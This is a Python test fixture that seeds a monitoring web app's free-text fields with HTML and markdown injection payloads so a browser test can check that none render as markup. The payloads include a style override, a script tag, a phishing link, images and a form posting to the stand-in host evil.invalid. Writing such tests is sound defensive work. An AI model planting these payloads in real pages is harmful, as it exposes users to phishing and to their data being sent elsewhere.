"""Hostile text planted in every free-text field of a store (issue 27): what a user could
type or import to restyle a page for every viewer, draw a phishing link or an image that
calls another host, or post a form elsewhere.

:func:`plant` writes them through the app's own writes (the importer, the SMS webhook, the
action register, the review queue, context factors and ratings, scenarios), by users whose
labels are payloads too. The browser test (``tests/test_injection.py``) then walks every
page and looks for what would show that one of them became markup.
"""

from __future__ import annotations

import hashlib
import hmac
from datetime import date, datetime, timezone
from urllib.parse import quote

from geo import reference
from geo.records.roles import Actor

REF = reference.load()       # the shipped units, zones and points

#: The host every payload points to (``.invalid`` never resolves).
EVIL = "evil.invalid"
#: The style an injected ``<style>`` would give the app: an outline no page has.
OUTLINE = "9px solid red"
#: Every shape of injection at once (long fields: notes, outcomes, summaries).
LONG = (f'<style>.stApp{{outline:{OUTLINE} !important}}</style>'
        f'<img src="http://{EVIL}/i.png" data-injected="img">'
        f'[Reconnectez-vous](http://{EVIL}/phish) ![t](http://{EVIL}/t.png) '
        f'<a href="http://{EVIL}/a" data-injected="a">lien</a>'
        f'<form action="http://{EVIL}/f" data-injected="form"><input name="q"></form>'
        f'<script>window.veilleInjected = 1</script> :red[rouge] $x^2$ # titre')
#: The same within 120 characters (scenario names, factor labels, user labels).
SHORT = (f'<style>.stApp{{outline:{OUTLINE}}}</style>[x](http://{EVIL}/p)![t](//{EVIL}/t)'
         f'<i data-injected=i>i</i>')
#: A file name (no ``/``: what a browser uploads is a base name).
FILE = f'<img src=http:{EVIL}?f data-injected=file>[f](http:{EVIL})![t](http:{EVIL}).csv'
#: A user label from the identity provider (the actor of the writes below).
WHO = Actor("sub-hostile", "admin", SHORT)


def _report_csv(rows: list[dict]) -> str:
    columns = list(rows[0])
    lines = [",".join(columns)]
    for row in rows:
        lines.append(",".join('"' + str(row[c]).replace('"', '""') + '"' for c in columns))
    return "\n".join(lines)


def plant(engine, today: date | None = None) -> dict[str, object]:
    """Write the payloads into ``engine``'s store (demonstration data loaded first if the
    store has none); return what was written (ids) for the test's addresses."""
    from geo.analysis import risk
    from geo.ingest import demo, import_file
    from geo.intake import webhook
    from geo.plans import planner, scenarios
    from geo.records import actions, context, review, store
    from tests.support import indicator_table

    if not store.demo_in_use(engine):
        demo.load(engine, WHO)
    today = today or date.today()
    records = store.load_all(engine)
    last = max(records["tensions"]["occurred_on"])
    # a report typed into a file (its summary), the file's name
    text = _report_csv([{
        "report_id": "hostile-1", "occurred_on": last.isoformat(), "region": "Mopti",
        "cercle": "Bandiagara", "location_precision": "cercle", "category": "clash",
        "severity": 5, "source_type": "partner", "summary": LONG}])
    batch = import_file(engine, "tensions", text.encode(), FILE, actor=WHO,
                        today=max(today, last)).batch_id
    # an SMS through a gateway, received on the same day (its text becomes the report's
    # summary)
    secret, key = "s" * 32, "k" * 32
    hook = webhook.Webhook(engine, secret, key)
    body = ("from=%2B22370000001&id=hostile&text="
            + quote(f"VEILLE Mopti affrontement 3 {SHORT}")).encode()
    now = datetime.combine(last, datetime.min.time(), timezone.utc).timestamp() + 43200
    stamp = str(int(now))
    signature = hmac.new(secret.encode(), stamp.encode() + b"." + body,
                         hashlib.sha256).hexdigest()
    hook.handle("generic", {"x-veille-signature": signature, "x-veille-timestamp": stamp},
                body, "application/x-www-form-urlencoded", now=now)
    # a review note, by a hostile user label (the report stays first in the queue)
    review.change(engine, WHO, "hostile-1", 0, status="follow_up", escalated=True, note=LONG)
    # a context factor (labels, descriptions) and a rating's note
    factor = context.add_factor(engine, SHORT, SHORT.replace("x]", "y]"), WHO, LONG, LONG)
    context.rate(engine, [context.Rating(factor, "mli-bandiagara", 7.0)], WHO, LONG)
    # a saved scenario's name, and an action from it with an outcome
    table = indicator_table(engine)
    scores = risk.score(table, risk.method_for(table)).score
    plan = planner.plan_workshops(store.load_all(engine), 3, scores, table.attrs["as_of"], ref=REF)
    scenario = scenarios.save(engine, SHORT, planner.Deployment(workshops=plan), WHO)
    cercles = set(table.index)
    action = actions.add(engine, WHO, cercles, cercle_id="mli-bandiagara", kind="dialogue",
                         planned_on=today, unit="regional_office", outcome=LONG,
                         scenario_id=scenario)
    return {"batch": batch, "report": "hostile-1", "factor": factor, "scenario": scenario,
            "action": action}
